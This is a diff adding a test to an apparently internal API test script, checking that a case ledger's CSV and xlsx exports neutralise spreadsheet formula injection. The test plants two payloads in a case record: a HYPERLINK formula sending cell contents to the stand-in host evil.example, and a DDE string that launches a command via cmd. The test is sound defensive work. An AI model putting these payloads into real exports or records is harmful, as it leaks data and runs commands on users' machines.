@@ -169,6 +169,38 @@ late_unit = next(u for u in units if u["profile"] == "late")
 s, d, _ = jcall("GET", f"/v1/reports/ledger?month={MONTH}&unit_id={late_unit['id']}&format=json", L)
 check("  … a late unit's ledger shows its supervision", s == 200 and any(r["supervision"] != "无" for r in d["rows"]), d.get("rows", [])[:2])
 
+# Formula injection (OWASP "CSV Injection"): names and summaries come from enterprises, and
+# intake takes any single line of text, so a name may start with '='. The CSV ledger must make
+# such a cell text (a leading '); the xlsx holds string cells and the value as it is.
+s, d, _ = jcall("GET", f"/v1/reports/ledger?month={MONTH}&region=450102&format=json", C)
+r0, r1 = d["rows"][0], d["rows"][1]
+keep = sql(f"SELECT json_build_object('n', enterprise_name, 's', summary) FROM cases WHERE case_no = '{r0['case_no']}'")
+evil_name = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
+evil_summary = "+1+cmd|' /C calc'!A0 道路积水"
+sql(f"UPDATE cases SET enterprise_name = $q${evil_name}$q$, summary = $q${evil_summary}$q$, version = version + 1 "
+    f"WHERE case_no = '{r0['case_no']}'")  # the row as if registered so (every update moves the version)
+try:
+    s, b, _ = call("GET", f"/v1/reports/ledger?month={MONTH}&region=450102&format=csv", C)
+    byno = {r[1]: r for r in csv.reader(io.StringIO(b.decode("utf-8-sig")))}
+    check("CSV ledger: a name starting with '=' and a summary with '+' are written as text (a leading ')",
+          s == 200 and byno[r0["case_no"]][2] == "'" + evil_name and byno[r0["case_no"]][4] == "'" + evil_summary,
+          byno.get(r0["case_no"], [])[:5])
+    check("  … a plain name and summary are unchanged", byno[r1["case_no"]][2] == r1["enterprise"]
+          and byno[r1["case_no"]][4] == r1["summary"], (byno.get(r1["case_no"], [])[:5], r1))
+    s, b, _ = call("GET", f"/v1/reports/ledger?month={MONTH}&region=450102&format=xlsx", C)
+    try:
+        import openpyxl
+        ws = openpyxl.load_workbook(io.BytesIO(b)).worksheets[0]
+        cells = next(r for r in ws.iter_rows(min_row=2) if r[1].value == r0["case_no"])
+        check("  … the xlsx holds the name as it is, in a string cell (never a formula)",
+              cells[2].value == evil_name and cells[2].data_type == "s" and cells[4].value == evil_summary
+              and cells[4].data_type == "s", [(c.value, c.data_type) for c in cells[:5]])
+    except ImportError:
+        check("openpyxl is installed (python3-openpyxl)", False)
+finally:
+    sql(f"UPDATE cases SET enterprise_name = k->>'n', summary = k->>'s', version = version + 1 FROM (SELECT $k${keep}$k$::json AS k) x "
+        f"WHERE case_no = '{r0['case_no']}'")
+
 print("dossier:")
 tr = SIM["tracking"]
 closed = next(t for t in tr if t["state"] == "closed")
